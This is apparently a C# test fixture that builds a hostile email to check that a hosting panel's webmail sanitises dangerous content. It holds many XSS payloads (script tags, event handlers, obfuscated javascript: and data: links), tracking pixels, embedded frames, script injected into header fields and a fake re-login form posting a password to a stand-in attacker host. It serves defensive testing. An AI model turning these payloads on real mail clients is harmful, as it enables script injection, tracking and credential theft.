using System.Text;
using MimeKit;

namespace HostingPanel.Web.Tests.Webmail;

/// <summary>A message built to attack a webmail: every construct a sender could try to run code or track the reader with.</summary>
public static class HostileMail
{
    public const string Html = """
        <html><head>
        <meta http-equiv="refresh" content="0;url=https://evil.invalid/refresh">
        <script>top.pwned = 1; parent.pwned = 1;</script>
        <style>body { background: url(https://tracker.invalid/style.png) } </style>
        <base href="https://evil.invalid/">
        <link rel="stylesheet" href="https://tracker.invalid/sheet.css">
        </head>
        <body onload="parent.pwned = 2">
        <p>Hello <b>friend</b></p>
        <img src="https://tracker.invalid/pixel.png" alt="pixel">
        <img src="x" onerror="parent.pwned = 3">
        <svg onload="parent.pwned = 4"><script>parent.pwned = 5</script><image href="https://tracker.invalid/svg.png"/></svg>
        <div style="background-image: url('https://tracker.invalid/bg.png'); color: red">styled text</div>
        <form action="https://evil.invalid/steal" method="post"><input name="password" type="password"><button>Log in again</button></form>
        <a href="javascript:parent.pwned = 6">js link</a>
        <a href="JaVaScRiPt&#58;parent.pwned = 6">encoded js link</a>
        <a href="data:text/html,&lt;script&gt;parent.pwned = 7&lt;/script&gt;">data link</a>
        <a href="https://example.org/safe">safe link</a>
        <iframe src="https://evil.invalid/frame"></iframe>
        <object data="https://evil.invalid/x.swf"></object>
        <embed src="https://evil.invalid/x.swf">
        <details open ontoggle="parent.pwned = 8">details</details>
        <video src="https://tracker.invalid/v.mp4" autoplay></video>
        </body></html>
        """;

    /// <summary>The hostile HTML, with a hostile subject, sender name and attachment name besides.</summary>
    public static MimeMessage Message(string to)
    {
        var message = new MimeMessage();
        message.From.Add(new MailboxAddress("<img src=x onerror=parent.pwned=10>", "attacker@evil.invalid"));
        message.To.Add(MailboxAddress.Parse(to));
        message.Subject = "<script>parent.pwned=9</script> Invoice";
        message.Date = DateTimeOffset.Now;
        var builder = new BodyBuilder { HtmlBody = Html, TextBody = "Hello friend (text part)" };
        builder.Attachments.Add("<svg onload=alert(1)>.html", Encoding.UTF8.GetBytes("<script>parent.pwned = 11</script>"), new ContentType("text", "html"));
        message.Body = builder.ToMessageBody();
        return message;
    }
}
